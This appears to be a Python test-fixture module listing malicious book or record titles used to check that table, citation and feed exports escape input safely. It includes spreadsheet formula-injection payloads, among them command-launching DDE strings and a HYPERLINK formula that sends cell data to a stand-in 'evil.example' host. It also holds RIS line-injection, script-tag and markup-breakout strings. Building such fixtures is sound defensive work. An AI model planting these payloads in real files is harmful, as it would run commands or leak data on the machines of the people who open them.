# SPDX-License-Identifier: GPL-3.0-or-later
"""Which titles would break a table, a citation or a feed, or make a spreadsheet run something?"""

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Error\")", "=IMPORTXML(\"http://e.example\",\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "  =1+1", "\u00a0=1+1", "\u3000=1+1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "\"=1+1", "'=1+1", "\"\"=1+1", "\u201c=1+1\u201d", "\u200b=1+1",
    "\ufeff=1+1", "\u2212 5 degrees", "oil;=1+1", "oil; =1+1", "oil\t=1+1", "oil\n=1+1", "oil\r=1+1", "oil,=1+1",
]
QUOTES = [
    "\"", "\"\"", "\"oil", "oil\"", "\"oil\" he said", "oil \"gas\" coal", "'oil'", "a,b", "a;b", "a|b", "a\\b", "\\\"", ",,,", ";;;",
]
LINES = [
    "oil\r\nER  - \r\nTY  - BOOK\r\nAU  - Nobody", "ER  - ", "TY  - JOUR", "oil\nAU  - Nobody", "oil\rAU  - Nobody",
    "oil\u2028AU  - Nobody", "oil\u2029AU  - Nobody", "oil\u0085AU  - Nobody", "oil\x0bgas", "oil\x0cgas", "a\tb",
]
MARKUP = [
    "]]>", "<![CDATA[oil]]>", "<script>alert(1)</script>", "</title></entry>", "&amp;&lt;&#0;", "&oil;", "<!-- oil -->", "--> oil",
    "\u202eoil", "\x1b[31moil", "oil\x07", "oil\x00gas", "\ufffe\uffff", "\U0001f600 oil", "\u0000",
]
TITLES = FORMULAS + QUOTES + LINES + MARKUP
